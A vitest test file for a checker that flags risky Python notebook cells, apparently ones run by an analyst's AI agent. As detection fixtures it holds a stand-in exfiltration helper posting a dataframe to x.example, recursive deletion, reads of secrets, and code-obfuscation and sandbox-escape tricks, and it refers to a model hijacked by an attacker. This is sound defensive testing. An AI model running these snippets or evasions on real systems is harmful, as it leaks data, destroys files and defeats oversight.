import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { UNSUPPORTED } from "../tools/check-code.ts";
import { importsOf } from "./python-imports.ts";
import { pythonReadsOutside, pythonRisks } from "./python-risks.ts";
import { riskSentence } from "./risks.ts";

const FILES = new Set(["data.csv", "/home/pyodide/data.csv", "helper.py", "important.csv"]);
/** Cells of the same notebook. */
const OTHERS = [
  "import pandas as pd, numpy as np\nimport matplotlib.pyplot as plt\ndf = pd.read_csv('data.csv')\nx = 1\nnames = ['Ada']",
  "def clean(frame):\n    return frame.dropna()",
  "def leak(frame):\n    import requests\n    requests.post('https://x.example', data=frame.to_csv())",
  "import requests\nclient = requests.Session()",
  "import os\nremover = os.remove",
  "web = pd.read_csv('https://x.example/a.csv')",
  "import requests\ndef ping(frame):\n    pong(frame)\n    requests.post('x', data=frame)\ndef pong(frame):\n    ping(frame)\nr = ping(df)",
  "left = df.join(right)",
  "right = df.join(left)",
];
const AROUND = { files: FILES, ownFiles: new Set(["made.csv"]), others: OTHERS };
const sentences = (code: string) => pythonRisks(code, AROUND).map(riskSentence);

test.each([
  // Tables
  "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.groupby('a').sum()",
  "df.head()",
  "df.describe().T",
  "df['total'] = df['price'] * df['count']\ndf.total.mean()",
  "df[df.price > 3].sort_values('price', ascending=False).head(10)",
  "df.groupby('city').agg({'price': 'mean', 'count': ['sum', 'max']})",
  "df.groupby('city').agg(total=('price', 'sum'), n=('price', 'count')).reset_index()",
  "df.groupby('city')['price'].transform('mean')",
  "df.apply(lambda row: row['a'] + row['b'], axis=1)",
  "df['name'].str.strip().str.lower().value_counts()",
  "df['day'] = pd.to_datetime(df['day'])\ndf.set_index('day').resample('W').sum()",
  "df.query('price > 3 and city == \"Rome\"')",
  "limit = 3\ndf.query('price > @limit')",
  "df.rename(columns={'a': 'b'}).drop(columns=['c']).fillna(0)",
  "pd.merge(df, df, on='id', how='left').pivot_table(index='a', columns='b', values='c', aggfunc='mean')",
  "pd.concat([pd.read_csv(path) for path in ['data.csv', 'important.csv']])",
  "import glob\nframes = [pd.read_csv(path) for path in sorted(glob.glob('*.csv'))]",
  "from pathlib import Path\nfor path in Path('.').glob('*.csv'):\n    print(path.name, len(pd.read_csv(path)))",
  "path = 'data.csv'\npd.read_csv(path, sep=';')",
  "import io\npd.read_csv(io.StringIO('a,b\\n1,2'))",
  "import os\npd.read_csv(os.path.join('sub', 'a.csv'))",
  "pd.set_option('display.max_rows', 100)\npd.options.display.max_columns = 50",
  "df.isna().sum()[lambda s: s > 0]",
  "df.to_dict('records')\nprint(df.to_string())\ndf.to_csv()",
  "df.to_csv('new.csv', index=False)",
  "df.to_csv('made.csv')",
  "pd.DataFrame({'a': [1, 2]}).to_json('out.json')",
  "clean(df).shape",
  "web.head()",
  "df_3.head()",
  "left.head()\nright.head()",
  // Arrays and statistics
  "import numpy as np\nrng = np.random.default_rng(1)\nrng.normal(size=10).mean()",
  "a = np.array([[1, 2], [3, 4]])\nnp.linalg.inv(a) @ a",
  "np.where(a > 2, a, 0).sum(axis=0)\na = np.arange(4)",
  "from scipy import stats\nstats.ttest_ind([1, 2], [3, 4])",
  "from sklearn.linear_model import LinearRegression\nmodel = LinearRegression().fit([[1], [2]], [1, 2])\nmodel.predict([[3]])",
  "from sklearn.datasets import load_iris\nload_iris(as_frame=True).frame",
  "import statistics\nstatistics.mean([1, 2])",
  // Charts
  "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
  "fig, ax = plt.subplots(figsize=(8, 4))\nax.bar(df['a'], df['b'])\nax.set_title('A')\nfig.tight_layout()",
  "fig, axes = plt.subplots(1, 2)\nfor ax, name in zip(axes, names):\n    ax.set_title(name)",
  "plt.savefig('chart.png')",
  "plt.style.use('ggplot')\nplt.rcParams['figure.dpi'] = 100",
  "import seaborn as sns\nsns.histplot(df, x='a')",
  "import plotly.express as px\npx.scatter(df, x='a', y='b')",
  "import altair as alt\nalt.Chart(df).mark_bar().encode(x='a', y='b')",
  "df.plot(kind='bar')\ndf.plot.scatter(x='a', y='b')",
  // Plain Python
  "text = 'a'.replace('a', 'b')\nitems = [1]\nitems.remove(1)",
  "from datetime import datetime as dt\nprint(dt.now(), 'a/b', \"it's 5: ok\")",
  "def f(x: int) -> int:\n    return x ** 2\nprint(f'{f(2)}')",
  "class A:\n    def __init__(self, name='x'):\n        self.name = name\n        self._seen = []\n    def __repr__(self):\n        return self.name\nA('b').name",
  "class B(Exception):\n    def __init__(self):\n        super().__init__('no')",
  "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\nP(1).x",
  "from functools import lru_cache\n@lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nfib(30)",
  "from collections import Counter, defaultdict\ncounts = Counter('abc')\ngroups = defaultdict(list)\ngroups['a'].append(1)\ncounts.most_common(2)",
  "import re\nfor match in re.finditer(r'\\d+', 'a1b22'):\n    print(match.group())",
  "import json\njson.loads('{\"a\": 1}')['a']",
  "import json\nwith open('data.json') as file:\n    data = json.load(file)",
  "with open('data.csv') as file:\n    lines = [line.strip().split(',') for line in file]",
  "with open('new.txt', 'w') as file:\n    file.write('a')",
  "import csv\nwith open('data.csv', newline='') as file:\n    rows = list(csv.DictReader(file))",
  "sorted(names, key=len)\nsorted(names, key=lambda name: name[-1])\nlist(map(str, [1]))\nmax(names, key=str.lower)",
  "for function in [np.mean, np.median]:\n    print(function([1, 2]))",
  "match x:\n    case {'a': y}:\n        pass\n    case int(z):\n        print(z)",
  "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n    print(error)",
  "x = 1\nx += 2\ndel x",
  "import random, math, itertools\nrandom.seed(1)\n[math.sqrt(random.random()) for _ in range(3)]\nlist(itertools.chain([1], [2]))",
  "import time\nstart = time.perf_counter()\nprint(time.perf_counter() - start)",
  "import asyncio\nasync def f():\n    await asyncio.sleep(0)\nawait f()",
  "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.execute('SELECT 1').fetchall()",
  "import duckdb\nduckdb.sql('SELECT * FROM df').df()",
  "from IPython.display import display, HTML\ndisplay(HTML('<b>a</b>'))",
  "import sys\nprint(sys.version)\nimport os\nos.listdir('.')",
  "assert x == 1\nprint(hasattr(df, 'columns'), getattr(df, 'columns'))",
  "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(1, 1)",
  "(n := 3) + 1\nprint(*names, sep='\\n')\n'{} {}'.format(1, 2)",
  "!ls *.csv\nfiles = !ls\n%pwd\nlen?\n%time y = 2",
  "%%html\n<p class='note'>It is <b>done</b>.</p>",
  "%%writefile new.txt\nimport requests",
  "%load_ext autoreload\n%autoreload 2",
  "%timeit x\nx = 1 if True else 2",
])("%s asks nothing", (code) => {
  expect(sentences(code)).toEqual([]);
});

/** Cells of a file, which lines of dashes separate. */
const cellsOf = (name: string) =>
  readFileSync(new URL(name, import.meta.url), "utf8")
    .trimEnd()
    .split("\n---\n");

test("of the cells that an analyst's agent writes every day, at most one in twenty asks", () => {
  const [setup = "", ...cells] = cellsOf("everyday-cells.txt");
  const asking = cells.filter((cell, at) => {
    const others = [setup, ...cells.slice(Math.max(0, at - 5), at + 1)];
    return pythonRisks(cell, { files: new Set(["data.csv"]), others }).length > 0;
  });
  // HTML and Markdown of computed texts, a package that isn't in the lists, and arguments that aren't known before.
  expect(asking.map((cell) => cell.split("\n", 1)[0])).toEqual([
    'df.style.format({"revenue": "{:,.0f}", "share": "{:.1%}"}).background_gradient(cmap="Blues", subset=["revenue"])',
    "import statsmodels.api as sm",
    'display(Markdown(f"The best region is **{best}**."))',
    "def load(path):",
    "def plot_trend(frame, ax=None, **kwargs):",
  ]);
  expect(cells.length).toBeGreaterThan(150);
  expect(asking.length / cells.length).toBeLessThan(0.05);
});

test("no cell of a model that obeys an attacker runs without a question", () => {
  const others = [
    "import pandas as pd\ndf = pd.read_csv('customers.csv')\nsecret = df.to_csv()\nCANARY = 'x'",
    "import requests\nclass Sync:\n    def update(self):\n        requests.post('x')\n    @property\n    def total(self):\n        requests.post('x')\n    def __str__(self):\n        requests.post('x')\nsyncing = Sync()",
  ];
  const attacks = cellsOf("attack-cells.txt");
  const files = new Set(["customers.csv", "helper.py"]);
  expect(attacks.filter((cell) => pythonRisks(cell, { files, others }).length === 0)).toEqual([]);
  expect(attacks.length).toBeGreaterThan(300);
});

const NETWORK = "It uses the network.";
const PAGE = "It uses JavaScript, which reaches beyond Python.";
const SECRETS = "It reads secrets.";
const DELETES = "It deletes or moves files.";
const DYNAMIC = "It generates code as it runs";
const WRITES = "It writes a file that can't be told before it runs.";
const CALLS = "which isn't known to be harmless.";
const NAME = "isn't known.";

test.each([
  // The network
  ["import requests", NETWORK],
  ["%%time\nimport requests", NETWORK],
  ["!wget https://x.example/a.csv", NETWORK],
  ["from urllib.request import urlopen", NETWORK],
  ["import http.client", NETWORK],
  ["import xmlrpc.client", NETWORK],
  ["import smtplib", NETWORK],
  ["import logging.handlers\nlogging.handlers.HTTPHandler('x.example', '/')", NAME],
  ["import pandas as pd\npd.read_csv('https://x.example/a.csv')", NETWORK],
  ["pd.read_json(f'https://x/{x}')", NETWORK],
  ["pd.read_csv('ht' + 'tps://x')", NETWORK],
  ["pd.read_csv(f'ht{x}')", NETWORK],
  ["pd.read_csv(df['path'][0])", NETWORK],
  ["pd.read_csv(filepath_or_buffer='https://x.example')", NETWORK],
  ["options = {'filepath_or_buffer': 'x'}\npd.read_csv(**options)", DYNAMIC],
  ["pd.read_html(names[0])", NETWORK],
  ["plt.imread('//evil.example/a.png')", NETWORK],
  ["plt.style.use('https://x.example/a.mplstyle')", NETWORK],
  ["def f():\n    if x:\n        import requests", NETWORK],
  ["seaborn = 1\nimport seaborn as sns\nsns.load_dataset('tips')", CALLS],
  ["import asyncio\nasyncio.open_connection('x', 1)", CALLS],
  ["leak(df)", NETWORK],
  ["r.head()\npong(df)", NAME],
  ["client.get('https://x.example')", NAME],
  ["%%html\n<script>fetch('https://x.example')</script>", NETWORK],
  // JavaScript and the page
  ["import js\njs.fetch('x')", PAGE],
  ["js.fetch('x')", PAGE],
  ["from pyodide.code import run_js", PAGE],
  ["import pyodide_js", PAGE],
  ["%%javascript\n1", PAGE],
  // Secrets
  ["import os\nos.environ['KEY']", SECRETS],
  ["from os import getenv as g\ng('KEY')", SECRETS],
  ["import fiddle\nfiddle.secret('KEY')", SECRETS],
  ["from fiddle import secret", SECRETS],
  ["import fiddle as f\nf.secrets", SECRETS],
  ["%env KEY", SECRETS],
  // Deleting and moving
  ["import os as o\no.remove('data.csv')", DELETES],
  ["from os import remove as r\nr('data.csv')", DELETES],
  ["from pathlib import Path\nPath('a').unlink()", DELETES],
  ["from pathlib import Path\nPath('data.csv').rename('b')", DELETES],
  ["from pathlib import Path\nfor p in [Path('data.csv')]:\n    p.replace('b')", DELETES],
  ["import shutil\nshutil.rmtree('.')", NAME],
  ["remover('data.csv')", NAME],
  ["!rm data.csv", DELETES],
  // Writing what the run didn't make
  ["open('data.csv', 'w').write('')", "It overwrites the file data.csv."],
  ["p = 'data.csv'\nopen(p, 'w')", "It overwrites the file data.csv."],
  ["open('data.csv', mode='a')", "It overwrites the file data.csv."],
  ["with open(names[0], 'w') as file:\n    pass", WRITES],
  ["open('new.txt', x)", WRITES],
  ["import pathlib\npathlib.Path('important.csv').write_text('gone')", "It overwrites the file important.csv."],
  ["from pathlib import Path\nPath('important.csv').open('w')", "It overwrites the file important.csv."],
  ["df.to_csv('/home/pyodide/data.csv')", "It overwrites the file /home/pyodide/data.csv."],
  ["df.to_csv('./sub/../data.csv')", "It overwrites the file ./sub/../data.csv."],
  ["target = names[0] + '.csv'\ndf.to_csv(target)", WRITES],
  ["df.to_csv('../elsewhere.csv')", WRITES],
  ["df.to_csv('json.py')", WRITES],
  ["plt.savefig('data.csv')", "It overwrites the file data.csv."],
  ["np.save('data.csv', x)", "It overwrites the file data.csv."],
  ["import numpy as np\nnp.memmap('data.csv', mode='w+')", CALLS],
  ["import zipfile\nzipfile.ZipFile('data.csv', 'w')", "It overwrites the file data.csv."],
  ["import logging\nlogging.basicConfig(filename='data.csv', filemode='w')", CALLS],
  ["import fileinput\nfileinput.input('data.csv', inplace=True)", NAME],
  ["import sqlite3\nsqlite3.connect('data.csv').execute('DROP TABLE a')", "It runs the statement DROP."],
  ["%%writefile data.csv\nx", "It overwrites the file data.csv."],
  ["import os\nos.truncate('data.csv', 0)", DELETES],
  // Code that nobody has read
  ["eval('1')", DYNAMIC],
  ["ｅｖａｌ('1')", DYNAMIC],
  ["@exec\n@input\nclass A: pass", DYNAMIC],
  ["x: exec('1') = 1", DYNAMIC],
  ["def f(a=exec('1')): pass", DYNAMIC],
  ["list(map(exec, ['1']))", DYNAMIC],
  ["sorted(names, key=eval)", DYNAMIC],
  ["print = eval", DYNAMIC],
  ["class C:\n    __class_getitem__ = exec\nC['1']", DYNAMIC],
  ["__import__('o' + 's')", DYNAMIC],
  ["import importlib", DYNAMIC],
  ["import pickle", DYNAMIC],
  ["import ctypes", DYNAMIC],
  ["pd.read_pickle('data.pkl')", CALLS],
  ["np.load('data.npy', allow_pickle=True)", "numpy.load with allow_pickle, which"],
  ["import timeit\ntimeit.timeit('import js')", CALLS],
  ["import doctest\ndoctest.testmod()", NAME],
  ["import code\ncode.interact()", DYNAMIC],
  ["get_ipython().run_cell_magic('bash', '', 'rm x')", NAME],
  ["getattr(x, 'rem' + 'ove')", DYNAMIC],
  ["import os\ngetattr(os, 'remove')", DYNAMIC],
  ["().__class__.__bases__[0].__subclasses__()", DYNAMIC],
  ["'{0.__init__.__globals__}'.format(clean)", DYNAMIC],
  ["print.__self__.eval('1')", DYNAMIC],
  ["type('X', (), {})", DYNAMIC],
  ["pd.io.common.os.remove('x')", CALLS],
  ["import random\nrandom._os.remove('x')", CALLS],
  ["import json\njson.codecs.builtins.exec('1')", CALLS],
  ["import re\nre.enum.sys.modules['os'].remove('data.csv')", CALLS],
  ["import sys\nsys.modules['os']", CALLS],
  ["from os import *", DYNAMIC],
  ["globals()['x']", DYNAMIC],
  ["df.query('@pd.read_csv(\"https://x.example\")')", DYNAMIC],
  ["df.eval('@x.remove(1)')", DYNAMIC],
  ["df.apply('to_csv')", DYNAMIC],
  ["how = 'to_csv'\ndf.apply(how)", DYNAMIC],
  ["run = df.evil\nrun('data.csv')", DYNAMIC],
  ["df.evil_method('data.csv')", CALLS],
  ["pd.options.plotting.backend = 'evil'", DYNAMIC],
  ["pd.DataFrame.to_string = clean", DYNAMIC],
  ["import builtins\nbuiltins.print = clean", DYNAMIC],
  ["import matplotlib\nmatplotlib.use('module://evil')", NETWORK],
  ["import operator\noperator.methodcaller('remove')", CALLS],
  ["import typing\ntyping.get_type_hints(clean)", CALLS],
  ["import atexit\natexit.register(clean)", NAME],
  ["import threading\nthreading.Timer(1, clean)", NAME],
  ["import duckdb\nduckdb.sql(\"SELECT * FROM 'https://x.example/a.csv'\")", NETWORK],
  ["import duckdb\nduckdb.sql(names[0])", DYNAMIC],
  ["import duckdb\nduckdb.sql(\"COPY df TO 'data.csv'\")", "It runs the statement COPY."],
  ["x = = 1", "It isn't valid Python"],
  ["# fine\rimport os\ros.remove('data.csv')", DELETES],
  ["!cat {secret}", DYNAMIC],
  ["!ls > data.csv", DYNAMIC],
  ["!python helper.py", DYNAMIC],
  ["%run helper.py", DYNAMIC],
  ["%load_ext helper", DYNAMIC],
  ["%%sql\nDROP TABLE a", DYNAMIC],
  // Names that only seem harmless
  ["[os for os in []]\nos.remove('data.csv')", DYNAMIC],
  ["def f(os): pass\nos.remove('data.csv')", DYNAMIC],
  ["if x > 5:\n    os = x\nos.remove('data.csv')", DYNAMIC],
  ["def f(remover): pass\nremover('data.csv')", NAME],
  ["def f(open): pass\nopen('data.csv', 'w')", DYNAMIC],
  ["[eval for eval in []]\neval('1')", DYNAMIC],
  ["def f(js): pass\njs.fetch('x')", DYNAMIC],
  ["def f(get_ipython): pass\nget_ipython().system('rm x')", DYNAMIC],
  ["f = print\nf = open\nf('data.csv', 'w')", CALLS],
  ["(open if x else print)('data.csv', 'w')", CALLS],
  ["list(map(open, ['data.csv'], ['w']))", CALLS],
  ["w = df.to_csv\nw('data.csv')", CALLS],
  ["getattr(df, 'to_csv')('data.csv')", CALLS],
  ["[df.to_csv][0]('data.csv')", CALLS],
  ["list(map(df.evil, ['data.csv']))", DYNAMIC],
  ["pd.DataFrame.to_csv(df, 'data.csv')", WRITES],
  ["from pathlib import Path\nPath.write_text(Path('data.csv'), '')", WRITES],
  ["from pathlib import Path\nPath.rename(Path('data.csv'), 'b')", DELETES],
  ["from pathlib import Path\nPath('data.csv').rename(target='b')", DELETES],
  ["from pathlib import Path\nr = {'p': Path('data.csv')}\nr['p'].rename('b')", DELETES],
  ["class A:\n    def unlink(self): pass\nfrom pathlib import Path\n[Path('data.csv')][0].unlink()", DELETES],
  ["class A:\n    def m(self):\n        self.to_csv('data.csv')\nA.m(df)", "It overwrites the file data.csv."],
  ["class A:\n    def m(self):\n        return self._mgr\nA.m(df)", DYNAMIC],
  ["self = df\nself.to_csv('data.csv')", "It overwrites the file data.csv."],
  // Addresses that are put together later
  ["u = 'ht'\nu += 'tps://x.example'\npd.read_csv(u)", NETWORK],
  ["paths = ['a.csv']\npaths.append('https://x.example')\npd.read_csv(paths[1])", NETWORK],
  ["paths = ['a.csv']\npaths += ['https://x.example']\npd.read_csv(paths[1])", NETWORK],
  ["import glob\npaths = glob.glob('*.csv')\npaths[0] = 'https://x.example'\npd.read_csv(paths[0])", NETWORK],
  ["pd.read_csv('a/' and 'https://x.example')", NETWORK],
  ["pd.read_csv('%s' % 'https://x.example')", NETWORK],
  ["pd.read_csv('\\x68ttps://x.example')", NETWORK],
  ["def f(u):\n    return pd.read_csv(u)\nf('https://x.example')", NETWORK],
  ["from IPython.display import HTML\nHTML(f'https://x.example?{x}')", NETWORK],
  ["from IPython.display import Image\nImage(url='https://x.example')", NETWORK],
  ["import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extract('data.csv')", WRITES],
  ["import zipfile\nzipfile.ZipFile('a.zip').extractall()", WRITES],
  ["%%writefile pandas.py\nx = 1", WRITES],
  // What isn't known
  ["import evil_package", NAME],
  ["import helper", NAME],
  ["%pip install left-pad", "It loads left-pad"],
  ["pip install left-pad", "It loads left-pad"],
  ["if 1:\n    conda install left-pad", "It loads left-pad"],
  ["unheard_of(df)", NAME],
  ["for f in [unheard_of]:\n    f(1)", NAME],
  // Modules that a harmless one has imported
  ["import statistics\n[statistics.sys][0].modules['os'].remove('important.csv')", "statistics.sys"],
  ["import enum\n(enum.sys, 1)[0]", "enum.sys"],
  ["import matplotlib.pyplot as plt\nwith plt.rc_context(fname='https://x.example/?a'):\n    pass", "rc_context"],
  // Names and files that only look like known ones
  ["df['a'].agg(str('to_csv'), path_or_buf='important.csv')", DYNAMIC],
  ["df['a'].agg('to_csv' if True else 0, path_or_buf='important.csv')", DYNAMIC],
  ["df['a'].agg(['to_csv'][0], path_or_buf='important.csv')", DYNAMIC],
  ["from pathlib import Path\nPath('out.csv', '/home/pyodide/important.csv').write_text('gone')", WRITES],
  ["open(errors='x.csv', file='important.csv', mode='w')", "It overwrites the file important.csv."],
  ["import duckdb\nduckdb.sql(alias='SELECT 1', query=\"COPY (SELECT 42) TO 'important.csv'\")", "COPY"],
  ["import numpy as np\nnp.load('data.npy', None, True)", DYNAMIC],
  ["import pandas as pd\npd.read_csv('\\x1chttps://x.example/a.csv')", NETWORK],
])("%s asks: %s", (code, sentence) => {
  expect(sentences(code).join(" ")).toContain(sentence);
});

test("imports are read with what they bind", () => {
  const found = importsOf("import a.b as c, d.e\nfrom f.g import (h as i,\n  j)\nfrom k import *");
  expect(found.map(({ module, names }) => [module, ...names])).toEqual([
    ["a.b", ["c", "a.b"]],
    ["d.e", ["d", "d"]],
    ["f.g", ["i", "f.g.h"], ["j", "f.g.j"]],
    ["k", ["*", "k.*"]],
  ]);
});

test.each([
  ["print(sum(range(10)))", false],
  ["import numpy as np\nnp.arange(3)", false],
  ["pd.read_csv('a.csv')", true],
  ["open('a').read()", true],
  ["import duckdb\nduckdb.sql(\"FROM 'a.csv'\").df()", true],
  ["import numpy as np\nnp.fromfile('a')", true],
  ["from pathlib import Path\nPath('a').read_text()", true],
  ["client.get('x')", true],
  ["df.head()", false],
  ["clean(df).plot()", false],
  ["import wikipedia", true],
  ["input()", true],
  ["!cat a.csv", true],
  ["x = !ls", true],
  ["%%sql\nSELECT 1", true],
  ["%matplotlib inline\n%load_ext autoreload\n%time x = 1", false],
  ["%load_ext helper", true],
  ["%%html\n<b>open</b>", false],
])("%s reads from outside: %s", (code, expected) => {
  expect(pythonReadsOutside(code, OTHERS)).toBe(expected);
});

test("the packages that don't work are those that the kernel refuses", () => {
  const source = readFileSync(
    new URL("../../../../../packages/kernels/src/python/browser/fiddle.py", import.meta.url),
    "utf8",
  );
  const listed = /UNSUPPORTED = frozenset\(\s*"""([^"]*)"""/.exec(source)?.[1] ?? "";
  expect([...UNSUPPORTED].toSorted()).toEqual(listed.trim().split(/\s+/).toSorted());
});
